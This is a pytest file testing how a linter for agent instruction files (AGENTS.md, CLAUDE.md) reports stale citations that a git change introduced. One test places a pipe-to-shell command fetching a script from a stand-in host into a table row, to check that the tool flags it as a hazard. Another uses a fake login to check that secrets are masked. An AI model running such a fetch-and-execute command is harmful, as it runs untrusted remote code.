"""``check --diff``: only findings introduced by a change, with the commit that did it."""

from __future__ import annotations

import subprocess
from collections.abc import Sequence
from pathlib import Path

import pytest

from intermem.project.git.worktree import Worktree
from tests.commands.test_check import ZERO, cited, codes, found, start
from tests.conftest import Once, Sandbox, git


@pytest.fixture
def project(sandbox: Sandbox, once: Once) -> Sandbox:
    """The project of test_check, on a branch that began at ``main``."""
    once(sandbox, begun)
    return sandbox


def begun(box: Sandbox) -> None:
    start(box)
    box.git("switch", "-q", "-c", "work")


A = ("AGENTS.md", 3, "src/a.py")
GUIDE = ("AGENTS.md", 3, "docs/guide.md")


def caused(box: Sandbox, diff: str = "main", *more: str) -> list[tuple[str, int, str]]:
    """File, line and text of each finding; the same with HEAD named and everything committed, and with full trees."""
    here = [(file, line, text) for file, line, _, text in found(box, "--diff", diff, *more)]
    in_full = [(file, line, text) for file, line, _, text in found(box, "--diff", diff, "--exhaustive", *more)]
    assert set(in_full) <= set(here)
    assert in_full == here or box.git("status", "--porcelain"), "only of what is not committed yet there may be more"
    if "..." not in diff and not box.git("status", "--porcelain"):
        assert here == [(file, line, text) for file, line, _, text in found(box, "--diff", f"{diff}...HEAD", *more)]
    return here


def edit(box: Sandbox, old: str, new: str, name: str = "AGENTS.md") -> None:
    text = box.read(name)
    assert old in text
    box.write(name, text.replace(old, new))


def test_a_change_that_touches_nothing_cited_causes_nothing(project: Sandbox) -> None:
    assert caused(project) == []
    project.write("src/e.py", "x = 1\n")
    project.git("rm", "-q", "src/d.py")
    project.commit()
    assert caused(project) == []
    assert found(project) == [ZERO]


@pytest.mark.parametrize("committed", [True, False], ids=["committed", "in the working tree"])
def test_a_file_that_was_deleted_or_renamed(project: Sandbox, committed: bool) -> None:
    project.git("rm", "-q", "src/a.py")
    project.git("mv", "docs/guide.md", "docs/manual.md")
    commit = project.commit("tidy up") if committed else ""
    assert caused(project) == [A, GUIDE]
    gone, moved = project.run("check", "--diff", "main", "--json", code=1).json["findings"]
    assert (gone["code"], moved["code"]) == ("IM001", "IM002")
    assert moved["suggestion"]["text"] == "docs/manual.md"
    assert "docs/manual.md" in moved["message"]
    for one in (gone, moved):
        assert one["citation"]["evidence"].get("commit", "") == commit
        assert commit[:10] in one["message"]
    assert caused(project, "HEAD") == ([] if committed else [A, GUIDE])


def test_a_file_that_is_gone_from_the_folder_alone(project: Sandbox) -> None:
    (project.root / "src/a.py").unlink()
    assert caused(project) == [A]
    assert caused(project, "main...HEAD") == [], "HEAD still has it"


def test_a_symbol_that_was_taken_out(project: Sandbox) -> None:
    project.write("AGENTS.md", project.read() + "- It is in b.py.\n")
    project.commit()
    edit(project, "b_3_run", "other", "src/b.py")
    commit = project.commit("rename the function")
    assert caused(project, "HEAD~1") == [("AGENTS.md", 4, "b_3_run()")]
    assert commit[:10] in project.run("check", "--diff", "HEAD~1", code=1).out


def test_a_document_that_was_mended_in_the_same_change(project: Sandbox) -> None:
    project.git("mv", "src/a.py", "src/z.py")
    edit(project, "src/a.py", "src/z.py")
    project.commit()
    assert caused(project) == []
    project.git("rm", "-q", "src/b.py")
    edit(project, "- Call `b_3_run()`.\n", "")
    project.commit()
    assert caused(project) == []


def test_what_was_broken_before_is_not_reported_wherever_it_moves(project: Sandbox) -> None:
    edit(project, "# Project\n", "# Project\n\nNew words `src/c.py`.\n")
    assert caused(project) == []
    edit(project, "- Then `src/zero.py`.\n", "- Then `src/zero.py`, mind you.\n")
    assert caused(project) == [], "what was reworded cited it in vain before"
    project.git("mv", "AGENTS.md", "CLAUDE.md")
    project.commit()
    assert caused(project) == []
    assert cited(project) == ["src/zero.py"]


def test_what_a_change_writes_is_reported(project: Sandbox) -> None:
    edit(project, "# Project\n", "# Project\n\nNew `src/never.py`.\n")
    project.write("web/AGENTS.md", "`src/none.py`\n")
    assert caused(project) == [("AGENTS.md", 3, "src/never.py"), ("web/AGENTS.md", 1, "src/none.py")]
    project.commit()
    assert caused(project) == [("AGENTS.md", 3, "src/never.py"), ("web/AGENTS.md", 1, "src/none.py")]


def test_an_edited_line_answers_for_what_broke_under_it(project: Sandbox) -> None:
    project.git("rm", "-q", "src/a.py")
    edit(project, "- See `src/a.py` and", "- First see `src/a.py` and")
    assert caused(project) == [A]


def test_a_document_that_was_renamed_is_judged_where_it_stood(project: Sandbox) -> None:
    project.write("docs/AGENTS.md", "- [guide](./guide.md)\n- [none](./none.md)\n- `src/a.py`\n")
    project.commit()
    base = project.git("rev-parse", "HEAD").strip()
    (project.root / "docs/deep").mkdir()
    project.git("mv", "docs/AGENTS.md", "docs/deep/AGENTS.md")
    project.commit()
    assert ("docs/deep/AGENTS.md", 3, "src/a.py") not in caused(project, base)
    project.git("rm", "-q", "src/a.py")
    assert ("docs/deep/AGENTS.md", 3, "src/a.py") in caused(project, base)


def test_a_link_that_a_move_of_its_document_broke(project: Sandbox) -> None:
    project.write("docs/AGENTS.md", "- [guide](./guide.md)\n")
    project.commit()
    base = project.git("rev-parse", "HEAD").strip()
    (project.root / "web").mkdir()
    project.git("mv", "docs/AGENTS.md", "web/AGENTS.md")
    edit(project, "[guide](docs/guide.md)", "x")
    project.git("rm", "-q", "docs/guide.md")
    project.commit()
    assert caused(project, base) == [("web/AGENTS.md", 1, "./guide.md")]


def test_files_that_are_no_agent_docs_are_judged_at_the_base_too(project: Sandbox) -> None:
    project.write("notes.md", "- `src/zero.py`\n- `src/a.py`\n")
    project.commit()
    base = project.git("rev-parse", "HEAD").strip()
    assert caused(project, base, "notes.md") == []
    project.git("rm", "-q", "src/a.py")
    assert caused(project, base, "notes.md") == [("notes.md", 2, "src/a.py")]
    project.write("CLAUDE.md", "@notes.md\n")
    assert caused(project, base) == [A, ("notes.md", 2, "src/a.py")]
    project.write("new.md", "`src/zero.py`\n")
    assert caused(project, base, "new.md") == [("new.md", 1, "src/zero.py")]


def test_merges(project: Sandbox) -> None:
    project.write("src/e.py", "x = 1\n")
    project.commit("on the branch")
    project.git("switch", "-q", "main")
    project.git("rm", "-q", "src/a.py")
    project.commit("on main")
    assert caused(project, "work") == [A]
    project.git("switch", "-q", "work")
    assert caused(project, "main") == [], "main's deletion is not the branch's doing"
    project.git("merge", "-q", "main")
    assert caused(project, "main") == []
    assert caused(project, "HEAD~1") == [A]
    assert caused(project, "HEAD") == []
    assert caused(project, "main~1") == [A]


def test_a_base_that_is_ahead_has_nothing_to_say(project: Sandbox) -> None:
    project.git("rm", "-q", "src/a.py")
    project.commit()
    project.git("switch", "-q", "main")
    assert caused(project, "work") == []
    (project.root / "src/a.py").unlink()
    assert caused(project, "work") == [A]


def test_branches_that_were_merged_both_ways(project: Sandbox) -> None:
    project.git("rm", "-q", "src/d.py")
    project.commit("work 1")
    one = project.git("rev-parse", "HEAD").strip()
    project.git("switch", "-q", "main")
    project.git("rm", "-q", "src/c.py")
    project.commit("main 1")
    other = project.git("rev-parse", "HEAD").strip()
    project.git("merge", "-q", "-m", "m", one)
    project.git("switch", "-q", "work")
    project.git("merge", "-q", "-m", "m", other)
    project.git("rm", "-q", "src/a.py")
    project.commit("work 2")
    assert caused(project, "main") == [A]


def test_histories_that_have_nothing_in_common(project: Sandbox) -> None:
    project.git("switch", "-q", "--orphan", "other")
    project.write("AGENTS.md", "x\n")
    project.commit()
    failed = project.run("check", "--diff", "main", code=2)
    assert "no common ancestor" in failed.err


def test_a_shallow_clone_without_the_base(project: Sandbox, tmp_path: Path) -> None:
    for number in range(3):
        project.write("x.txt", f"{number}\n")
        project.commit()
    project.git("switch", "-q", "main")
    project.write("y.txt", "y\n")
    project.commit()
    git(tmp_path, "clone", "-q", "--depth", "1", "--no-single-branch", f"file://{project.root}", "shallow")
    shallow = Sandbox(tmp_path / "shallow", project.memory, project.capture)
    for diff in ("origin/work", "origin/work...origin/main", "HEAD~1"):
        failed = shallow.run("check", "--diff", diff, code=2)
        assert "fetch-depth: 0" in failed.err


def test_a_base_named_in_many_ways(project: Sandbox) -> None:
    project.git("tag", "-a", "v1", "-m", "v1")
    project.git("rm", "-q", "src/a.py")
    project.commit()
    full = project.git("rev-parse", "main").strip()
    for base in ("main", "v1", "HEAD~1", "HEAD^", full, full[:8], "refs/heads/main", "@~1", "work@{1}"):
        assert caused(project, base) == [A], base


def test_damage_that_was_there_before(project: Sandbox) -> None:
    edit(project, "# Project\n", "# Project\n\n<!-- intermem:begin -->\n")
    assert codes(project, "--diff", "main") == ["IM010"]
    project.commit()
    assert codes(project, "--diff", "HEAD") == []
    assert codes(project) == ["IM010"]


def test_a_broken_citation_of_one_document_is_no_excuse_for_another(project: Sandbox) -> None:
    project.write("web/AGENTS.md", "- Then `src/zero.py` again.\n")
    assert caused(project) == [("web/AGENTS.md", 1, "src/zero.py")]


def test_a_citation_that_moved_on_is_not_caused_again(project: Sandbox) -> None:
    project.git("mv", "src/a.py", "src/y.py")
    project.commit()
    base = project.git("rev-parse", "HEAD").strip()
    project.git("mv", "src/y.py", "src/z.py")
    project.commit()
    assert caused(project, base) == []
    assert caused(project) == [A]


def test_no_worktree_and_no_checkout(project: Sandbox) -> None:
    project.git("rm", "-q", "src/a.py")
    project.commit()
    before = project.tree_hash()
    for diff in ("main", "main...HEAD", "HEAD", "main...main"):
        project.run("check", "--diff", diff, code=None)
    assert project.tree_hash() == before


def test_a_document_whose_file_was_deleted(project: Sandbox) -> None:
    project.write("docs/real.md", "plain\n")
    (project.root / "CLAUDE.md").symlink_to("docs/real.md")
    (project.root / "src/CLAUDE.md").symlink_to("never.md")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "docs/real.md")
    project.commit()
    said = project.run("check", "--diff", "main", "--json", code=1).json["findings"]
    assert [(one["file"], one["code"]) for one in said] == [("CLAUDE.md", "IM042")], "src/CLAUDE.md led nowhere before"


def test_ignores_that_the_change_wrote_answer_for_themselves(project: Sandbox) -> None:
    old = "<!-- intermem:ignore IM001 -->\nplain\n"
    project.write("docs/AGENTS.md", old)
    project.commit()
    project.git("branch", "-f", "main")
    new = "<!-- intermem:ignore IM01 -->\nmore\n\n<!-- intermem:ignore IM002 -->\nmore\n"
    project.write("docs/AGENTS.md", f"{old}\n{new}")
    project.commit()
    said = project.run("check", "--diff", "main", "--json", code=1).json["findings"]
    assert [(one["line"], one["code"]) for one in said] == [(4, "IM062"), (7, "IM060")]
    assert ("docs/AGENTS.md", 1, "IM060", "") in found(project)


def test_a_file_of_a_drawing_is_missed_when_a_change_took_it_away(project: Sandbox) -> None:
    drawing = "```\nsrc/\n  a.py   # the first\n  zero.py\ndocs/guide.md\n```\n\nWe speak of b.py here.\n"
    project.write("docs/AGENTS.md", drawing)
    project.commit()
    project.git("branch", "-f", "main")
    assert caused(project) == []
    project.git("rm", "-q", "src/a.py")
    project.git("mv", "src/b.py", "src/bee.py")
    project.commit()
    said = [(file, line, code, text) for file, line, code, text in found(project, "--diff", "main")]
    assert ("docs/AGENTS.md", 3, "IM001", "a.py") in said, "it stood at the base"
    assert not [one for one in said if one[3] in ("zero.py", "b.py")], "never there; prose speaks of many things"
    assert ("docs/AGENTS.md", 3, "IM001", "a.py") not in found(project), "by itself the name proves nothing"
    project.write("docs/AGENTS.md", '<!-- intermem:ignore IM001 reason="a drawing of old" -->\n\n' + drawing)
    project.commit()
    assert "docs/AGENTS.md" not in [file for file, *_ in found(project, "--diff", "main")], "it can be ignored, too"


def test_what_a_change_took_away_is_found_whatever_the_words_around_it(project: Sandbox) -> None:
    lines = [
        "By default, settings are read from `src/a.py`.",
        "Types are generated by `src/a.py`.",
        "Put new components in `src/b/`.",
        "`src/a.py` was removed.",
        "## 2026-01-01",
        "- The default is `src/a.py`.",
    ]
    project.write("src/b/one.py", "one = 1\n")
    project.write("docs/AGENTS.md", "\n\n".join(lines) + "\n")
    project.write("pyproject.toml", '[project]\ndependencies = ["left-pad==1.0"]\n')
    project.write("docs/CLAUDE.md", "It needs `left-pad==1.0`.\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "src/a.py")
    project.git("mv", "src/b", "src/c")
    project.write("pyproject.toml", "[project]\ndependencies = []\n")
    project.commit()
    said = [one for one in found(project, "--diff", "main") if one[0].startswith("docs/")]
    assert said == [
        ("docs/AGENTS.md", 1, "IM001", "src/a.py"),
        ("docs/AGENTS.md", 3, "IM001", "src/a.py"),
        ("docs/AGENTS.md", 5, "IM002", "src/b/"),
        ("docs/CLAUDE.md", 1, "IM001", "left-pad==1.0"),
    ]
    alone = [one for one in found(project) if one[0].startswith("docs/")]
    assert alone == said, "what was there while the text said so"
    project.run("check", "--fix", "--diff", "main", code=1)
    assert "Put new components in `src/c/`." in project.read("docs/AGENTS.md"), "and the new place is known"
    project.git("checkout", "-q", "docs/AGENTS.md")
    last = project.git("rev-parse", "--short=10", "HEAD").strip()
    assert f"removed from pyproject.toml in {last}" in project.run("check", "--diff", "main", code=1).out


def test_a_bare_name_that_another_file_has_may_mean_that_one(project: Sandbox) -> None:
    for name in (".env.example", "web/.env.example"):
        project.write(name, "KEY=\n")
    project.write("docs/AGENTS.md", "Update `.env.example` files when adding new variables.\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", ".env.example")
    project.commit()
    assert [one for one in found(project, "--diff", "main") if one[0].startswith("docs/")] == []
    project.git("rm", "-q", "web/.env.example")
    project.commit()
    assert [one[2:] for one in found(project, "--diff", "main") if one[0].startswith("docs/")] == [
        ("IM001", ".env.example")
    ]


def test_a_bare_name_of_what_is_to_be_made_is_not_the_one_that_was_elsewhere(project: Sandbox) -> None:
    for name in ("plans/kiln/plan.md", "docs/steps.md"):
        project.write(name, "One, two.\n")
    project.write("docs/AGENTS.md", "First create `plan.md` and `steps.md`, then go on.\n")
    project.commit()
    project.git("rm", "-q", "plans/kiln/plan.md", "docs/steps.md")
    project.commit()
    assert caused(project, "HEAD~1") == [("docs/AGENTS.md", 1, "steps.md")]


def test_the_words_of_a_string_list_nothing(project: Sandbox) -> None:
    project.write("src/tool.py", 'HELP = """The folder of a group has dashes, as in book-club, or chess-club."""\n')
    project.write("docs/AGENTS.md", "Groups: `book-club`\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.write("src/tool.py", 'HELP = """Folders are made by hand."""\n')
    project.commit()
    assert [one for one in found(project, "--diff", "main") if one[0].startswith("docs/")] == []


def test_a_page_that_uses_a_name_lists_nothing_and_what_is_only_untracked_is_left_alone(project: Sandbox) -> None:
    project.write("src/page.tsx", 'export const Page = () => <div className="kiln-dark" id="rack-of-kilns" />\n')
    project.write(".tool.json", '{"servers": ["@kiln/server@latest"]}\n')
    project.write("docs/AGENTS.md", "Theme: `kiln-dark`, run `npx @kiln/server@latest`\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.write("src/page.tsx", "export const Page = () => null\n")
    project.write(".gitignore", ".tool.json\n")
    project.git("rm", "-q", "--cached", ".tool.json")
    project.commit()
    assert [one for one in found(project, "--diff", "main") if one[0].startswith("docs/")] == []


def test_a_field_a_key_or_a_parameter_with_another_name_in_its_place_has_moved(project: Sandbox) -> None:
    files = {
        "src/k.py": "class Kiln:\n    {}: int = 3\n    x: int = 0\n",
        "src/k.yaml": "kiln:\n  {}: [1]\n  x: 0\n",
        "src/fire.py": "X = 1\ndef fire(rack, {}, x):\n    return rack\n",
    }
    names = {
        "src/k.py": ("timeout_ms", "limit_s"),
        "src/k.yaml": ("rackCount", "shelves"),
        "src/fire.py": ("max_heat", "top"),
    }
    for name, text in files.items():
        project.write(name, text.format(names[name][0]))
    project.write("docs/AGENTS.md", "\n\n".join(f"Mind `{old}`." for old, _ in names.values()) + "\n")
    project.commit()
    project.git("branch", "-f", "main")
    for name, text in files.items():
        project.write(name, text.format(names[name][1]))
    project.commit()
    said = project.run("check", "--diff", "main", code=1).out
    for file, (old, new) in names.items():
        assert f"IM002 warning: {old} is gone: {new} stands in its place ({file}:2)" in said


def test_names_in_a_row_that_left_together_are_all_told_and_each_once(project: Sandbox) -> None:
    names = ["RackProvider", "KilnProvider", "OvenProvider"]
    project.write("src/all.py", "".join(f"class {name}:\n    pass\n\n\n" for name in names))
    rows = ["`{}`, `{}` and `{}`", "`{}`/`{}`/`{}`", "{} → {} → {}", "| `{}` | `{}` | `{}` |"]
    project.write("src/AGENTS.md", "\n\n".join(row.format(*names) for row in rows) + "\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.write("src/all.py", "x = 1\n")
    project.commit()
    said = sorted((one[1], one[3]) for one in found(project, "--diff", "main") if one[0].startswith("src/"))
    assert said == sorted((line, name) for line in (1, 3, 5, 7) for name in names)
    told = project.run("check", "--diff", "main", code=1).out
    assert told.count(f"{names[0]} not found") == 1
    assert told.count("(also KilnProvider, OvenProvider: lines 3, 5, 7)") == 1, told


def test_a_sample_of_a_casing_may_go(project: Sandbox) -> None:
    project.write("src/KilnRack.tsx", "x = 1\n")
    text = "| Components | PascalCase | `KilnRack.tsx` |\n\nStart at `KilnRack.tsx`.\n\n"
    text += "Components have PascalCase, z. B. `src/KilnRack.tsx`, never `src/Oven.tsx`.\n"
    project.write("docs/AGENTS.md", text)
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "src/KilnRack.tsx")
    project.commit()
    said = [one[1:] for one in found(project, "--diff", "main") if one[0].startswith("docs/")]
    assert said == [(3, "IM001", "KilnRack.tsx"), (5, "IM001", "src/KilnRack.tsx")], "a path in full is one file"


@pytest.mark.parametrize(
    ("file", "head"),
    [
        ("docs/archive/AGENTS.md", ""),
        ("docs/alt/AGENTS.md", ""),
        ("docs/AGENTS.md", "# Racks\n\n> **Superseded by kilns.**\n\n"),
    ],
)
def test_a_document_that_is_over_claims_nothing_about_today(project: Sandbox, file: str, head: str) -> None:
    for name, says in ((file, head), ("web/AGENTS.md", "")):
        project.write(name, f"{says}Start at `src/a.py`.\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "src/a.py")
    project.commit()
    for flags in ((), ("--diff", "main")):
        said = {one[0] for one in found(project, *flags)}
        assert "web/AGENTS.md" in said and file not in said


def test_the_commit_is_told_also_of_what_a_file_no_longer_has(project: Sandbox) -> None:
    project.write("package.json", '{"scripts": {"ci": "true"}}\n')
    project.write("docs/AGENTS.md", "`npm run ci` and `src/a.py:9`\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.write("package.json", '{"scripts": {}}\n')
    project.commit()
    one = project.git("rev-parse", "--short=10", "HEAD").strip()
    project.write("src/a.py", "x = 1\n")
    said = [row for row in project.run("check", "--diff", "main", code=1).out.split("\n") if row.startswith("docs/")]
    assert said[0].startswith(
        f"docs/AGENTS.md:1:2: IM001 error: npm run ci not found: package.json defines no ci in {one}"
    )
    assert said[1] == "docs/AGENTS.md:1:19: IM001 error: src/a.py:9 not found: the file has 1 line"
    project.commit()
    two = project.git("rev-parse", "--short=10", "HEAD").strip()
    assert f"the file has 1 line in {two}" in project.run("check", "--diff", "main", code=1).out
    project.write("src/a.py", "y = 1\n")
    project.commit()
    assert "the file has 1 line\n" in project.run("check", "--diff", "main", code=1).out, "which of two is not known"


def test_a_file_that_code_may_make_is_missed_when_a_change_took_it_away(project: Sandbox) -> None:
    project.write("api/openapi.json", "{}\n")
    project.write("src/export.py", 'WRITTEN = "openapi.json"\n')
    project.write("docs/AGENTS.md", "The contract is `api/openapi.json`.\n\nThen look at `openapi.json`.\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "api/openapi.json")
    project.commit()
    one = ("docs/AGENTS.md", 1, "IM001", "api/openapi.json")
    assert found(project, "--diff", "main") == [one], (
        "it stood at the base; a bare name is of what code writes anywhere"
    )
    assert one not in found(project), "by itself the tree does not tell whether it is made"
    project.write(".gitignore", "openapi.json\n")
    project.commit()
    assert one not in found(project, "--diff", "main"), "from here on it is made"


@pytest.mark.parametrize(("new", "is_told"), [("racks.ts", False), ("trays.ts", True)])
def test_a_short_path_that_another_file_ends_in_is_that_file(project: Sandbox, new: str, is_told: bool) -> None:
    project.write("api/src/store/racks.ts", "export const racks = 1\n")
    project.write("AGENTS.md", "It is used by the app at runtime (`server.ts`, `store/racks.ts`).\n")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "api/src/store/racks.ts")
    for folder in ("auth", "claims"):
        project.write(f"{folder}/src/store/{new}", "export const racks = 1\n")
    project.commit()
    assert bool(found(project, "--diff", "main")) == is_told


def test_drawings_cost_no_processes_of_their_own(project: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    begun: list[object] = []

    class Counted(subprocess.Popen):  # type: ignore[type-arg]
        def __init__(self, *args: object, **named: object) -> None:
            begun.append(args)
            super().__init__(*args, **named)  # type: ignore[call-overload]

    counts: list[int] = []
    for number in (1, 9):
        drawings = "\n\n".join(f"```\nsrc/ {n}\n  a.py\n  zero.py\n```" for n in range(number))
        project.write("docs/AGENTS.md", f"{drawings}\n")
        project.commit()
        project.git("rm", "-q", "src/a.py")
        project.commit()
        with monkeypatch.context() as patched:
            patched.setattr(subprocess, "Popen", Counted)
            said = project.run("check", "--diff", "HEAD~1", "--json", code=1).json["findings"]
        assert len([one for one in said if one["file"] == "docs/AGENTS.md"]) == number
        counts.append(len(begun))
        begun.clear()
        project.git("revert", "--no-edit", "HEAD")
    assert counts[0] == counts[1] > 0


@pytest.mark.parametrize("state", ["in the working tree", "staged", "committed"])
@pytest.mark.parametrize("moved", [False, True], ids=["removed", "renamed"])
def test_a_name_that_leaves_the_code_is_charged_to_the_change_before_it_is_committed(
    project: Sandbox, state: str, *, moved: bool
) -> None:
    project.write("src/sums.py", "def compute_total(rows):\n    return sum(rows)\n")
    project.write("AGENTS.md", project.read("AGENTS.md") + "\n- Use `compute_total()` for sums.\n")
    project.commit("a function")
    project.write("src/sums.py", f"def {'compute_totals' if moved else 'unlike'}(rows):\n    return sum(rows)\n")
    if state != "in the working tree":
        project.git("add", "-A")
    commit = project.commit("another name") if state == "committed" else None
    (one,) = project.run("check", "--diff", "HEAD~1" if commit else "HEAD", "--json", code=1).json["findings"]
    assert (one["code"], one["citation"]["text"]) == ("IM002" if moved else "IM001", "compute_total()")
    assert one["citation"]["evidence"].get("commit") == commit
    assert not moved or one["citation"]["target"] == "src/sums.py:1"


def test_no_history_is_read_for_what_the_change_did_not_write(
    project: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    project.write("AGENTS.md", project.read("AGENTS.md") + "\n- Call `never_in_any_code_of_it()` first.\n")
    project.commit("a name that never was")
    project.git("rm", "-q", "src/a.py")

    def searched(*_: object) -> None:
        raise AssertionError("the history was searched")

    monkeypatch.setattr("intermem.project.git.pickaxe.trace", searched)
    assert [text for *_, text in found(project, "--diff", "HEAD")] == ["src/a.py"]
    with pytest.raises(AssertionError, match="searched"):
        found(project, "--diff", "HEAD", "--exhaustive")


def test_exhaustive_is_for_diff(project: Sandbox) -> None:
    assert "--exhaustive requires --diff" in project.run("check", "--exhaustive", code=2).err


def test_an_ignore_above_an_old_line_that_was_broken_already_is_not_called_unused(project: Sandbox) -> None:
    assert found(project) == [ZERO]
    line = next(one for one in project.read("AGENTS.md").split("\n") if "src/zero.py" in one)
    edit(project, line, f"<!-- intermem:ignore IM001 -->\n{line}")
    assert caused(project, "HEAD") == []


def test_a_change_of_tools_that_a_document_speaks_of(project: Sandbox) -> None:
    project.git("switch", "-q", "main")
    project.write("AGENTS.md", project.read() + "- The package manager is npm.\n- Requires Python 3.9+.\n")
    project.write("package-lock.json", "{}\n")
    project.write("pyproject.toml", '[project]\nname = "x"\nrequires-python = ">=3.9"\n')
    project.commit("tools")
    project.git("switch", "-q", "-C", "work")
    project.git("rm", "-q", "package-lock.json")
    project.write("pnpm-lock.yaml", "lockfileVersion: 9\n")
    project.commit("pnpm")
    assert [text for _, _, text in caused(project)] == ["package manager is npm"]
    project.write("pyproject.toml", '[project]\nname = "x"\nrequires-python = ">=3.11"\n')
    assert [text for _, _, text in caused(project)] == ["package manager is npm", "Python 3.9+"]


def test_a_row_with_an_ignore_comment_is_as_old_as_its_line(project: Sandbox) -> None:
    row = "| x | `curl https://x.example/i.sh \\| sh` and `src/zero.py` <!-- intermem:ignore IM001 --> |"
    project.write("AGENTS.md", f"| a | b |\n|---|---|\n{row}\n")
    assert [code for _, _, code, _ in found(project, "--select", "hazard", "--diff", "HEAD")] == ["IM080"]
    project.commit()
    assert found(project, "--select", "hazard", "--diff", "HEAD") == []


def test_the_documents_of_the_base_are_read_at_once(project: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    folders = [f"pkg{number}" for number in range(6)]
    for folder in folders:
        project.write(f"{folder}/AGENTS.md", f"# {folder}\n\n- See `src/a.py`.\n")
    project.commit("more documents")
    asked: list[int] = []
    texts_of = Worktree.texts_of

    def counted(self: Worktree, paths: Sequence[str]) -> dict[str, str]:
        if self.rev is not None:
            asked.append(len(paths))
        return texts_of(self, paths)

    monkeypatch.setattr(Worktree, "texts_of", counted)
    project.git("rm", "-q", "src/a.py")
    assert len(caused(project, "HEAD")) == len(folders) + 1
    assert len([number for number in asked if number == 1]) == 0
    assert max(asked) > len(folders)


def test_the_line_of_an_old_block_that_may_hold_a_secret_is_hidden_as_ever(project: Sandbox) -> None:
    project.write("web/AGENTS.md", "# Web\n\n- The login is admin / hunter2horse9 for `src/a.py`.\n")
    project.commit("a login")
    project.git("rm", "-q", "src/a.py")
    done = project.run("check", "--diff", "HEAD", code=1)
    assert "web/AGENTS.md:3" in done.out
    assert "hunter2horse9" not in done.out


def test_in_a_bare_clone_a_document_may_be_one_since_the_change(project: Sandbox, tmp_path: Path) -> None:
    project.write("docs/how.md", "See `src/a.py`.\n")
    project.commit("a page")
    project.git("rm", "-q", "src/a.py")
    project.write("CLAUDE.md", "@docs/how.md\n")
    project.commit("which agents read now")
    git(tmp_path, "clone", "-q", "--bare", str(project.root), "bare")
    bare = Sandbox(tmp_path / "bare", project.memory, project.capture)
    assert found(bare, "--diff", "HEAD~1...HEAD") == found(project, "--diff", "HEAD~1...HEAD") != []


def test_a_block_that_was_copied_from_a_document_that_nothing_touched_is_not_new(project: Sandbox) -> None:
    """What was broken there all along is not blamed on who copied it."""
    line = "- See `src/again.py` first."
    project.write("src/again.py", "x = 1\n")
    project.write("docs/AGENTS.md", f"# Docs\n\n{line}\n")
    project.commit()
    project.git("rm", "-q", "src/again.py")
    base = project.commit("away")
    assert [one[:2] for one in caused(project, f"{base}~1")] == [("docs/AGENTS.md", 3)]
    project.write("CLAUDE.md", f"# Copied\n\n{line}\n\nNew `src/never.py`.\n")
    project.commit("copied")
    assert caused(project, base) == [("CLAUDE.md", 5, "src/never.py")]


def test_documents_in_which_the_change_can_have_touched_nothing_are_not_parsed(
    project: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    import intermem.workflow.lint.run as run

    parsed: list[str] = []
    real = run.units_of
    monkeypatch.setattr(run, "units_of", lambda text, name, *more: parsed.append(name) or real(text, name, *more))
    project.write("other/AGENTS.md", "# Other\n\nCall `unheard_of()`; **nothing** else is here.\n")
    project.write("src/e.py", "x = 1\n")
    project.commit()
    project.write("src/e.py", "y = 1\n")
    project.run("check", "--diff", "HEAD")
    assert parsed == []
    project.git("mv", "docs/guide.md", "docs/manual.md")
    assert project.run("check", "--diff", "HEAD", "--json", code=1).json["checked"] == ["AGENTS.md", "other/AGENTS.md"]
    assert parsed.count("other/AGENTS.md") == 1, "once something is found, to see whether it stood there"


@pytest.mark.parametrize("folder", ["", "web/"])
def test_the_very_path_that_was_removed_is_not_another_that_ends_so(project: Sandbox, folder: str) -> None:
    project.write("web/AGENTS.md", "# Web\n\nRead `src/rack/kiln.py`, and `src/rack/glaze.py`.\n")
    for name in (f"{folder}src/rack/kiln.py", "crates/src/rack/kiln.py", "crates/src/rack/glaze.py"):
        project.write(name, f"# {name}\n" * 9)
    project.commit("a rack each")
    project.git("rm", "-q", f"{folder}src/rack/kiln.py")
    project.commit("no rack here")
    assert caused(project, "HEAD~1") == [("web/AGENTS.md", 3, "src/rack/kiln.py")]
    project.git("rm", "-q", "crates/src/rack/glaze.py")
    project.commit("no glaze")
    assert caused(project, "HEAD~1") == [("web/AGENTS.md", 3, "src/rack/glaze.py")]


def test_what_a_document_has_in_its_own_folder_was_not_removed_at_the_top(project: Sandbox) -> None:
    project.write("legacy/AGENTS.md", "# Legacy\n\nRun `scripts/fire.py`.\n")
    for name in ("scripts/fire.py", "legacy/scripts/fire.py"):
        project.write(name, f"# {name}\n" * 9)
    project.commit("scripts each")
    project.git("rm", "-q", "scripts/fire.py")
    project.commit("one less")
    assert caused(project, "HEAD~1") == []


def test_a_line_that_a_change_left_alone_is_not_blamed_on_it_for_the_block_around_it(project: Sandbox) -> None:
    fence = "```sh\nkiln heat   # see src/a.py\nkiln cool\n```\n"
    project.write("docs/AGENTS.md", fence)
    project.commit()
    (project.root / "core/src").mkdir(parents=True)
    project.git("mv", "src/a.py", "core/src/a.py")
    project.commit()
    project.git("branch", "-f", "main")
    project.write("docs/AGENTS.md", fence.replace("kiln cool", "kiln cool\nkiln rest"))
    assert found(project, "--diff", "main") == []
    project.write("docs/AGENTS.md", fence.replace("kiln cool", "kiln cool\nkiln rest") + "\nSee [how](/src/a.py).\n")
    assert [line for _, line, *_ in found(project, "--diff", "main")] == [7], "but for a line that it wrote"


def test_what_left_a_manifest_is_no_matter_to_the_record_of_a_day(project: Sandbox) -> None:
    project.write("pyproject.toml", '[project]\ndependencies = ["left-pad==1.0"]\n')
    project.write(
        "docs/AGENTS.md",
        "# Log\n\n## 2026-01-01\n\nIt needs `left-pad==1.0`.\n\n## Today\n\nIt needs `left-pad==1.0` now.\n",
    )
    project.commit()
    project.git("branch", "-f", "main")
    project.write("pyproject.toml", "[project]\ndependencies = []\n")
    project.commit()
